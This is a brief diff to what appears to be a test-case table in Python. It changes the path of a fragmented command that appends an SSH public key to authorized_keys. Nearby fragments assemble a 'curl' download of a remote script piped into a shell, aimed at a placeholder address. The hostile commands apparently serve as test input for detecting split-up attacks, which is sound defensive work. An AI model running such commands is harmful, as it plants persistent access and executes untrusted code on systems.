@@ -165,7 +165,7 @@ CASES = {
             ),
             text(
                 "echo 'ssh-r",
-                "sa AAAAB3NzaC1yc2EAAAADAQAB me' >> /root/.ssh/authorized",
+                "sa AAAAB3NzaC1yc2EAAAADAQAB me' >> /home/me/.ssh/authorized",
                 "_keys\n",
                 "cu",
                 f"rl http://{ADDRESS}/a.sh | s",
